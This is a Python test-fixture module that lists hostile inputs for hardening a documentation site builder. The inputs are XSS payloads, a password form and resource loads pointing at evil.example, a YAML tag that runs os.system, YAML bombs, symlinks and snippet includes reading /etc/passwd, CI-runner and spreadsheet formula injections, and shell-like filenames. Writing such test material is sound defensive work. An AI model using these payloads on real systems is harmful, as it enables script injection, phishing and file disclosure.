"""What somebody might write into a change to act where it is previewed, reported or deployed: each case is data.

`tests/test_untrusted.py` builds them all into one site and opens it. `texts` is what any of them would put into a
report, a comment or a log.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from itertools import count
from pathlib import Path

ELSEWHERE = "https://evil.example"
"""Where nothing may be fetched from."""


@dataclass(frozen=True)
class Link:
    """A symbolic link, and where it leads."""

    target: str


@dataclass(frozen=True)
class Case:
    """One thing that somebody tries.

    Attributes:
        name: A word for it.
        tries: What would happen, were nothing done about it.
        files: What it adds to a repository whose docs folder is `specs/`, by path.
        pages: Addresses of the pages that it makes; that of its only spec where nothing else is said.
        left_out: Paths of its files that must not come over from a change to the site of its base.
    """

    name: str
    tries: str
    files: Mapping[str, str | bytes | Link]
    pages: tuple[str, ...] = ()
    left_out: tuple[str, ...] = field(default=())

    @property
    def texts(self) -> tuple[str, ...]:
        """Its texts, and the names of its files."""
        written = (text for text in self.files.values() if isinstance(text, str))
        return (*self.files, *written)

    def write(self, root: Path) -> None:
        for path, content in self.files.items():
            file = root / path
            file.parent.mkdir(parents=True, exist_ok=True)
            file.unlink(missing_ok=True)
            if isinstance(content, Link):
                file.symlink_to(content.target)
            else:
                file.write_bytes(content if isinstance(content, bytes) else content.encode())


def _script(name: str) -> str:
    return f"window.pwned=/{name}/.source"  # without quotes, which would end those around it


def _image(name: str) -> str:
    """What runs a script as soon as it is shown, and needs no script element."""
    return f"<img src=x onerror={_script(name)}>"


_number = count(1)


def _spec(name: str, tries: str, body: str = "", *, head: str = "", title: str = "") -> Case:
    """A spec with a body and some fields. In all of them NAME, RUN and SHOW stand for what tells that it has worked."""
    texts = {"NAME": name, "RUN": _script(name), "SHOW": _image(name), "ELSEWHERE": f"{ELSEWHERE}/{name}"}
    title = title or f"A case of {name}"
    text = f"---\nid: BAD-{next(_number)}\ntitle: {title}\nstatus: draft\n{head}---\n\n{body}\n"
    for word, meant in texts.items():
        text = text.replace(word, meant)
    return Case(name, tries, {f"specs/bad/{name}.md": text}, (f"bad/{name}/",))


def _files(
    name: str, tries: str, files: Mapping[str, str | bytes | Link], *pages: str, kept: tuple[str, ...] = ()
) -> Case:
    """Files, none of which may come over but those in `kept`."""
    return Case(name, tries, files, pages, tuple(path for path in files if path not in kept))


_REFRESH = f'<meta http-equiv=refresh content="0;url={ELSEWHERE}">'
"""What leaves the page by itself; no policy is against it."""


def _twice(html: str) -> str:
    """HTML that is text, and becomes HTML where a theme unescapes it once more."""
    return html.replace("<", "&lt;").replace(">", "&gt;")


def _page(name: str, tries: str, body: str) -> Case:
    path = f"specs/bad/{name}.md"
    return _files(name, tries, {path: f"{body}\n\nText.\n"}, f"bad/{name}/", kept=(path,))


IN_TITLES = (
    _page("heading", "a heading that ends the title of the page", f"# X {_twice('</title>' + _REFRESH)}"),
    _page("heading-code", "the same in code", f"# X `</title>{_REFRESH}`"),
    _page("heading-twice", "the same, escaped twice", f"# X {_twice('</title>' + _REFRESH).replace('&', '&amp;')}"),
    _page(
        "heading-under", "the same in the table of contents", f"# X\n\n## Y {_twice('</nav>' + _REFRESH)} `{_REFRESH}`"
    ),
    _page("heading-quote", "a heading that ends an attribute", '# X" onmouseover="window.pwned=1" x=\''),
    _page("page-title", "a title of its own that does", f"---\ntitle: '</title>{_REFRESH}'\n---\n\n# X"),
    _page(
        "page-title-entities",
        "a title of its own, escaped already",
        f"---\ntitle: '{_twice('</title>' + _REFRESH)}'\n---\n\n# X",
    ),
)

IN_FRONT_MATTER = (
    _spec("title", "a script in the title of every page that links to it", title='"</title><script>RUN</script>SHOW"'),
    _spec("title-attribute", "a title that ends the attribute it stands in", title='\'" onmouseover="RUN" x="\''),
    _spec(
        "title-entities", "a title whose entities a theme turns into tags", title="'&lt;img src=x onerror=\"RUN\"&gt;'"
    ),
    _spec("summary", "a script in the description of the page", head="summary: '\"><script>RUN</script>SHOW'\n"),
    _spec("tags", "a script in a tag, which search writes as it is", head="tags: ['SHOW', '<svg onload=\"RUN\">']\n"),
    _spec("fields", "scripts in fields that nobody declared", head="'<b onclick=RUN>SHOW': {deep: ['SHOW']}\n"),
    _spec("people", "scripts in owner, team and release", head="owner: 'SHOW'\nteam: 'SHOW'\nrelease: 'SHOW'\n"),
    _spec("field-link", "an address in a field that acts", head="more: 'javascript:RUN'\nlinks: ['vbscript:RUN']\n"),
    _spec(
        "updates",
        "a script in what its owner reports",
        head="updates: [{on: 2026-11-01, health: on-track, by: 'SHOW', text: 'SHOW [[BAD-1|SHOW]]'}]\n",
    ),
    _spec("waiver", "a script in the reason of a waiver", head="waivers: [{rule: 'SHOW', reason: 'SHOW'}]\n"),
    _spec("relations", "scripts for ids of other specs", head="depends_on: ['SHOW', '\"><script>RUN</script>']\n"),
    Case(
        "status",
        "a script for a status, which stands in pills and findings",
        {"specs/bad/status.md": f"---\nid: BAD-S\ntitle: Status\nstatus: '{_image('status')}'\n---\n"},
        ("bad/status/",),
    ),
    Case(
        "id",
        "a script for an id, which becomes part of addresses and anchors",
        {"specs/bad/id.md": f"---\nid: '{_image('id')}'\ntitle: Id\nstatus: draft\n---\n"},
        ("bad/id/",),
    ),
    Case(
        "id-path",
        "an id that leads out of the folder for ids",
        {"specs/bad/id-path.md": "---\nid: ../../../../tmp/pwned\ntitle: Path\nstatus: draft\n---\n"},
        ("bad/id-path/",),
    ),
    _spec("template", "another template than the site's", head="template: redirect.html\nlocation: 'javascript:RUN'\n"),
    _spec("hide", "the navigation hidden", head="hide: [navigation, toc, path, footer, tags]\n"),
    _spec("search-weight", "to be found first, whatever is asked", head="search: {boost: 1000000}\n"),
    _spec(
        "tag-of-yaml",
        "a YAML tag that runs a command",
        head="x: !!python/object/apply:os.system ['touch /tmp/pwned']\n",
    ),
    _spec(
        "yaml-bomb",
        "aliases that unfold to more than fits into memory",
        head="a: &a [x,x,x,x,x,x,x,x,x]\n"
        + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True)),
    ),
    _spec("yaml-depth", "a nesting that no parser survives", head=f"deep: {'[' * 5000}{']' * 5000}\n"),
    _spec("author", "keys that a theme reads", head="author: 'SHOW'\nicon: ../../../../etc/passwd\nsubtitle: 'SHOW'\n"),
    Case(
        "page-metadata",
        "a page that is no spec, with a template and scripts in what themes write into its head",
        {
            "specs/bad/page.md": f"---\ntitle: '</title>{_image('page-metadata')}'\ntemplate: 404.html\n"
            f"description: '\">{_image('page-metadata')}'\nauthor: '\">{_image('page-metadata')}'\n"
            f"hide: [navigation]\nsearch: {{exclude: true}}\n---\n\nA page.\n"
        },
        ("bad/page/",),
    ),
    Case(
        "page-of-headers",
        "metadata in the way of MultiMarkdown, which the host reads as well",
        {"specs/bad/headers.md": "template: 404.html\ntitle: <script>window.pwned='headers'</script>\n\nA page.\n"},
        ("bad/headers/",),
    ),
    Case(
        "page-bomb",
        "aliases in a page that is no spec, which the host would read",
        {
            "specs/bad/bomb.md": "---\na: &a [x,x,x,x,x,x,x,x,x]\n"
            + "".join(f"{b}: &{b} [{','.join([f'*{a}'] * 9)}]\n" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
            + "title: *i\n---\n\nA page.\n"
        },
        ("bad/bomb/",),
    ),
)

IN_PROSE = (
    _spec("script", "a script", "# Script\n\n<script>RUN</script>\n\nx <script src='ELSEWHERE'></script>"),
    _spec(
        "handler", "handlers of events", 'SHOW\n\n<div onpointerenter="RUN" onclick=RUN>x</div>\n\n<svg onload="RUN"/>'
    ),
    _spec(
        "heading",
        "a script in a heading, and so in the table of contents",
        "# H SHOW\n\n## A <script>RUN</script> SHOW",
    ),
    _spec(
        "contents",
        "a label for the table of contents",
        '## One {: data-toc-label=\'<img src=x onerror="RUN">\' }\n\n## &lt;img src=x onerror="RUN"&gt;',
    ),
    _spec(
        "attribute-list",
        "attributes by a list of them",
        "A paragraph.\n{: onclick=RUN onmouseover=RUN style='position:fixed;inset:0' id=__config .md-overlay }\n\n"
        "[a](b.md){: href='javascript:RUN' ping='ELSEWHERE' }",
    ),
    _spec(
        "schemes",
        "addresses that act",
        "[a](javascript:RUN) [b](JaVaScRiPt:RUN) [c](java&#10;script:RUN) [d](&#106;avascript:RUN) "
        "[e](data:text/html,<script>RUN</script>) [f](vbscript:RUN) <javascript:RUN>\n\n[g]: javascript:RUN\n\n[g]\n\n"
        '<a href="java\tscript:RUN">h</a> <a href="\x01javascript:RUN">i</a> <a href=" javascript:RUN">j</a> '
        '<a xlink:href="javascript:RUN">k</a> <area href="javascript:RUN">\n\n![l](javascript:RUN)',
    ),
    _spec(
        "styles",
        "styles that cover the page, and fetch",
        "<style>body{display:none}article *{background:url(ELSEWHERE)}@import 'ELSEWHERE';</style>\n\n"
        '<div style="position:fixed;inset:0;z-index:99999;background:url(ELSEWHERE)">covered</div>\n\n'
        '<link rel="stylesheet" href="ELSEWHERE">',
    ),
    _spec(
        "classes",
        "classes of the theme that cover the page, and of ours that lie",
        '<div class="md-overlay md-search__overlay" style="opacity:1;width:100%;height:100%">x</div>\n\n'
        '<div class="tpm tpm-finding tpm-error">Forged</div>\n\n<label class="md-overlay" for="__drawer">x</label>\n\n'
        '<div class="md-dialog md-dialog--active" data-md-state="open">x</div>',
    ),
    _spec(
        "frames", "frames", '<iframe srcdoc="<script>parent.pwned=1</script>" src="ELSEWHERE"></iframe>\n\n<frameset>'
    ),
    _spec("objects", "plug-ins", '<object data="ELSEWHERE"></object><embed src="ELSEWHERE"><applet code=x></applet>'),
    _spec("refresh", "a page that leaves", '<meta http-equiv="refresh" content="0;url=ELSEWHERE">\n\nx'),
    _spec("base", "another base for all addresses", '<base href="ELSEWHERE/" target="_top">\n\n[x](../index.md)'),
    _spec(
        "form",
        "a form that asks for a password",
        '<form action="ELSEWHERE"><input name=p type=password><input name=x><button>Go</button></form>\n\n'
        '<button formaction="ELSEWHERE">x</button> <isindex action="ELSEWHERE"> <select><option>x</select>',
    ),
    _spec(
        "fetching",
        "things from elsewhere",
        '![x](ELSEWHERE.png) ![y](//evil.example/y.png) <img src="/\\evil.example/z.png" srcset="ELSEWHERE 2x">\n\n'
        '<video src="ELSEWHERE" poster="ELSEWHERE" autoplay></video><audio src="ELSEWHERE"></audio>\n\n'
        '<link rel="prefetch" href="ELSEWHERE"><picture><source srcset="ELSEWHERE"><img src="ELSEWHERE"></picture>\n\n'
        '<table background="ELSEWHERE"><tr><td>x</table> <svg><image href="ELSEWHERE"/><use href="ELSEWHERE#x"/></svg>',
    ),
    _spec(
        "template-element", "what is parsed later", "<template shadowrootmode=open><script>RUN</script>SHOW</template>"
    ),
    _spec(
        "mutation",
        "HTML that means another thing when it is parsed again",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">\n\n'
        '<svg></p><style><a id="</style>SHOW">\n\n<noscript><p title="</noscript>SHOW">\n\n'
        "<form><math><mtext></form><form><mglyph><style></math>SHOW\n\n"
        "<svg><desc><template><script>RUN</script></template></desc><foreignObject>SHOW</foreignObject></svg>\n\n"
        '<a title="`<x-`>SHOW">x</a> <p id="a<b>SHOW">x</p> <xmp><p title="</xmp>SHOW">',
    ),
    _spec(
        "svg",
        "a drawing that acts",
        '<svg><script>RUN</script><a href="javascript:RUN"><text>x</text></a>'
        '<animate onbegin="RUN" attributeName=x dur=1s /><set attributeName="onclick" to="RUN"/></svg>',
    ),
    _spec("open-comment", "our part of the page in a comment", "# Title <!--\n\nText <!-- that does not end"),
    _spec("open-block", "a comment that begins before the title", "<!-- a -->\n<!--\n\n# Title\n\nText"),
    _spec("open-field", "our part of the page in a field", "# Title <textarea>\n\n<textarea>\n\n<select><option>"),
    _spec("open-text", "the rest of the page as text", "# Title <plaintext>\n\n<xmp>\n\n<plaintext>\n\n<noembed>"),
    _spec(
        "open-title",
        "the rest of the page in an element without text",
        "# Title <title>\n\n<script>\n\n<style>\n\n<iframe>",
    ),
    _spec("open-fence", "a fence that does not end", "# Title\n\n```js\nRUN\n\n## x\n\n~~~~"),
    _spec(
        "open-element", "the rest of the page folded away", "# T <details>\n\n<div hidden><details><summary>x</summary>"
    ),
    _spec(
        "open-table",
        "the rest of the page in a table, a link or a form",
        "# T <a href=ELSEWHERE>\n\n<table><form><b><i>",
    ),
    _spec(
        "closing", "the theme's elements ended", "</article></div></main></body></html>\n\n</p></div></div></div>SHOW"
    ),
    _spec(
        "clobbering",
        "names that scripts look for",
        '<div id="__config">{"base":"ELSEWHERE","features":[],"search":"ELSEWHERE","translations":{}}</div>\n\n'
        '<a id="__search"></a><a id="document$" href="x"></a><a id="__md_get"></a><a id="tpm-findings"></a>\n\n'
        '<img name="querySelector"><img name="body"><form name="search"></form><a id=x name=y>z</a>\n\n'
        "## Heading {: #__config }\n\n## Another {: #tpm-gate }",
    ),
    _spec(
        "hooks",
        "what our script reads",
        '<div data-facets="[" data-group><div data-f="a0">x</div></div>\n\n<button data-tpm-act="print">x</button>\n\n'
        '<div data-facets=\'[{"key":"x","title":"SHOW","letter":"a","values":[["v","SHOW"]]}]\'><p data-f="a0">'
        '<a href="javascript:RUN">y</a></p></div>\n\n<i data-line="1 2"></i><i data-row="]"></i><b data-tpm-lane>x</b>',
    ),
    _spec(
        "forged-mention",
        "the card of a mention that says what is not so",
        '<a class="tpm-ref" href="../x/" data-id="BAD-1" data-status="approved" data-kind="good" '
        'data-health="on track">x</a>',
    ),
    _spec(
        "mention",
        "a mention whose words act",
        "[[BAD-1|SHOW]] [[BAD-1|<script>RUN</script>]] [[<img src=x onerror=RUN>]]",
    ),
    _spec(
        "theme-hooks",
        "what the theme's script reads",
        '<div data-md-component="search" data-md-toggle="drawer">x</div>'
        '\n\n<div data-md-component="announce"><p class="md-typeset">x</p></div>\n\n<div data-search-exclude>x</div>',
    ),
    _spec(
        "mermaid",
        "a diagram that a script draws",
        '```mermaid\ngraph TD; A-->B\nclick A "javascript:RUN"\n```\n\n'
        '<pre class="mermaid"><code>graph TD; A[SHOW]</code></pre>\n\n<div class="lottie glightbox">x</div>',
    ),
    _spec(
        "snippet",
        "files from outside, and from the repository",
        '--8<-- "/etc/passwd"\n\n--8<-- "../../../../../etc/passwd"\n\n--8<-- "mkdocs.yml"\n\n'
        '--8<-- "ELSEWHERE"\n\n![x](/etc/hostname)\n\n{% include "mkdocs.yml" %}',
    ),
    _spec(
        "macro",
        "code in the braces of a template",
        "{{ config.plugins }} {{ 7*7 }} {% for x in [] %}{% endfor %}",
        title="'{{ 7*7 }}'",
    ),
    _spec(
        "markdown-in-html",
        "Markdown in HTML",
        '<div markdown="1" onclick="RUN">\n\nSHOW\n\n<script>RUN</script>\n\n</div>',
    ),
    _spec(
        "extensions",
        "what extensions write into attributes and titles",
        '!!! note "SHOW"\n    SHOW\n\n??? danger "<script>RUN</script>"\n    x\n\n=== "SHOW"\n    SHOW\n\n'
        "=== \"<script>RUN</script>\"\n    y\n\n```{ .py title='SHOW' onclick='RUN' id='__config' }\nx\n```\n\n"
        'Foot[^1] HTM\n\n[^1]: SHOW <script>RUN</script>\n\n*[HTM]: "onclick=RUN x="\n\n- [ ] SHOW\n\n'
        ":smile: ++ctrl+SHOW++\n\n"
        "{++SHOW++} ==SHOW== ^^x^^ `#!html SHOW` $$SHOW$$",
    ),
    _spec(
        "inputs", "switches of the theme", '<label for="__drawer">x</label><input id="__search" type=checkbox checked>'
    ),
)

VOCABULARY = Case(
    "vocabulary",
    "scripts for names of teams, releases, goals and statuses",
    {
        "site_config/teams.yml": f"- {{key: bad, name: '{_image('team')}', lead: '{_image('lead')}'}}\n",
        "site_config/releases.yml": f"- {{name: '{_image('release')}', date: 2027-03-01}}\n",
        "site_config/goals.yml": f"- {{id: GOAL-1, title: '{_image('goal')}', description: '{_image('goal')}'}}\n",
        "site_config/statuses.yml": "- {name: draft, category: proposed}\n"
        f"- {{name: '{_image('name')}', category: active}}\n",
    },
    ("teams/", "releases/", "goals/", "goals/GOAL-1/"),
)

IN_FILES = (
    _files(
        "links",
        "files from elsewhere on the machine",
        {
            "specs/bad/passwd.md": Link("/etc/passwd"),
            "specs/bad/outside.md": Link("../../../../../../etc/hostname"),
            "specs/bad/all": Link("/"),
            "specs/bad/git": Link("../../.git"),
            "specs/bad/settings.md": Link("../../mkdocs.yml"),
            "specs/bad/round": Link("."),
        },
    ),
    _files(
        "settings",
        "another configuration, and so code in the build",
        {
            "mkdocs.yml": "site_name: Pwned\nhooks: [pwned.py]\nplugins: [search]\n",
            "pwned.py": "raise SystemExit('pwned')\n",
            "site_config/dialect.yml": "ids: {external: {pattern: '.*', url: 'javascript:{id}'}}\n",
            "site_config/checks.yml": "severity: {unknown-reference: ignore}\n",
            "site_config/templates/spec.md": "{{ 7*7 }}",
            "specs/.meta.yml": "template: 404.html\n",
            "specs/.nav.yml": "nav: []\n",
        },
        kept=("pwned.py", "specs/.meta.yml", "specs/.nav.yml"),
    ),
    _files(
        "active-files",
        "files that act where their address is opened",
        {
            "specs/bad/x.svg": f"<svg xmlns='http://www.w3.org/2000/svg'><script>{_script('svg-file')}</script></svg>",
            "specs/bad/x.html": "<script>window.pwned='html-file'</script>",
            "specs/bad/x.js": "window.pwned='js-file'",
            "specs/bad/x.css": "body{display:none}",
            "specs/bad/x.xml": "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>window.pwned=1</x:script>",
            "specs/bad/x.pdf": b"%PDF-1.7",
            "specs/bad/x.md.html": "x",
            "specs/bad/x.yml": "a: b\n",
            "specs/stylesheets/extra.css": "body{display:none}",
            "specs/sw.js": "x",
            "specs/bad/x.PHP": "<?php",
            "specs/CNAME": "evil.example\n",
        },
    ),
    _files(
        "names",
        "names that act where they are written",
        {
            f"specs/bad/{name}.md": "x\n"
            for name in (
                "a'b",
                'a"onmouseover="window.pwned=1',
                "<img src=x onerror=window.pwned=1>",
                "-rf",
                "a\nb",
                "a\\..\\b",
                "::error::x",
                "a`id`",
                "$(id)",
                "a\u202eb",
                "a;b",
                "{{7*7}}",
            )
        },
    ),
    _files(
        "sizes",
        "files that are too large, too many folders and too long a name",
        {
            "specs/bad/large.md": "x" * 4_000_001,
            "specs/bad/large.png": b"\x89PNG" + b"x" * 5_000_000,
            f"specs/{'/'.join(['deep'] * 30)}/x.md": "x",
            f"specs/bad/{'long' * 55}.md": "x",
        },
    ),
    Case(
        "polyglot",
        "a page that is called an image",
        {"specs/bad/polyglot.png": b"<script>window.pwned='polyglot'</script>"},
        ("bad/polyglot.png",),
    ),
    Case(
        "encodings",
        "texts that no text is",
        {"specs/bad/utf16.md": "<script>x</script>".encode("utf-16"), "specs/bad/nul.md": b"a\0<script>x</script>"},
        ("bad/utf16/", "bad/nul/"),
    ),
    VOCABULARY,
)

IN_DATA = (
    _spec(
        "commands",
        "commands to the runner that prints them",
        "x",
        title="'::error file=x::pwned'",
        head="owner: '##[group]x'\nsummary: \"\\n::set-output name=x::y\\n##vso[task.x]\"\n"
        "more: '::stop-commands::x'\n",
    ),
    _spec("mentions-of-people", "everybody told", "@everyone @org/team", title="'@everyone cc @org/team #1 GH-1'"),
    _spec(
        "formula",
        "a formula in a table",
        "x",
        title='\'=HYPERLINK("ELSEWHERE","x")\'',
        head="owner: '@SUM(1+1)*cmd|/C calc'\nteam: '+1'\n",
    ),
    _spec(
        "calendar",
        "an entry of its own in the calendar",
        title='"x\\r\\nEND:VEVENT\\r\\nBEGIN:VEVENT\\r\\nSUMMARY:pwned"',
        head="target: 2027-03-01\n",
    ),
    _spec(
        "text-for-models",
        "a link and a line of its own in llms.txt",
        title='"x](ELSEWHERE)\\n## Pwned\\n- [y](ELSEWHERE"',
    ),
    _spec("json-in-html", "the end of a script in data", title="'</script><script>RUN</script><!--'"),
    _spec("directions", "text that reads from the other side", "x", title='"\\u202Eabc\\u2066\\u200B"'),
    _spec(
        "comment-marks",
        "the end of a comment, and marks of a comment's own",
        "x",
        title="'--> <!-- tpmdocs-review --> |'",
    ),
    _spec("controls", "sequences that act on a terminal", "x", title='"\\e]0;pwned\\a\\e[2J"'),
)

CASES = (*IN_TITLES, *IN_FRONT_MATTER, *IN_PROSE, *IN_FILES, *IN_DATA)

BASE: Mapping[str, str] = {
    "mkdocs.yml": """\
site_name: Preview
docs_dir: specs
theme:
  name: material
  font: false
  features: [content.code.copy, content.tabs.link, navigation.indexes, search.suggest, search.highlight]
  palette:
    - {scheme: default, toggle: {icon: material/weather-night, name: Dark}}
    - {scheme: slate, toggle: {icon: material/weather-sunny, name: Light}}
extra_css: [stylesheets/extra.css]
plugins: [search, tpmdocs]
markdown_extensions:
  - abbr
  - admonition
  - attr_list
  - def_list
  - footnotes
  - md_in_html
  - tables
  - toc: {permalink: true}
  - pymdownx.arithmatex: {generic: true}
  - pymdownx.critic
  - pymdownx.details
  - pymdownx.emoji:
      emoji_index: !!python/name:material.extensions.emoji.twemoji
      emoji_generator: !!python/name:material.extensions.emoji.to_svg
  - pymdownx.highlight: {anchor_linenums: true}
  - pymdownx.inlinehilite
  - pymdownx.keys
  - pymdownx.mark
  - pymdownx.snippets: {restrict_base_path: false, url_download: true}
  - pymdownx.superfences:
      custom_fences:
        - {name: mermaid, class: mermaid, format: !!python/name:pymdownx.superfences.fence_code_format }
  - pymdownx.tabbed: {alternate_style: true}
  - pymdownx.tasklist: {custom_checkbox: true}
""",
    "specs/index.md": "# Welcome\n\nTo [[OK-1]].\n",
    "specs/stylesheets/extra.css": ":root { --ours: 1 }\n",
    "specs/ok.md": """\
---
id: OK-1
title: An honest spec
status: draft
target: 2027-Q1
depends_on: [OK-404]
---

# An honest spec

Why it is done, with a [link](index.md), `code` and :material-check:.

!!! note "A note"
    Of an extension.

=== "One"
    First.

=== "Two"
    Second.

| a | b |
|--:|---|
| 1 | 2 |

- [x] Done

```python
print("x")
```

<details><summary>More</summary>HTML that is <kbd>fine</kbd>.</details>

## Scope

Text.[^1]

[^1]: A note.
""",
    "site_config/statuses.yml": "- {name: draft, category: proposed}\n",
}
"""The trusted repository that the cases are a change to."""
